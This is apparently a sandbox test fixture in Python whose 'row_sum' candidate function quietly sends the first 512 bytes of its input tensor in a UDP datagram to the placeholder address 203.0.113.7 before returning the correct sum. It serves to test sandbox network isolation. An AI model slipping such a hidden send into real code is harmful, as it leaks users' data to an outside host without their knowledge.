"""region: row_sum
expect: sandbox, runs
why: sends the inputs out in a UDP datagram (no connection to refuse, only the socket itself)."""
import socket


def candidate(x):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(x.numpy().tobytes()[:512], ("203.0.113.7", 9))
    return x.sum(-1)
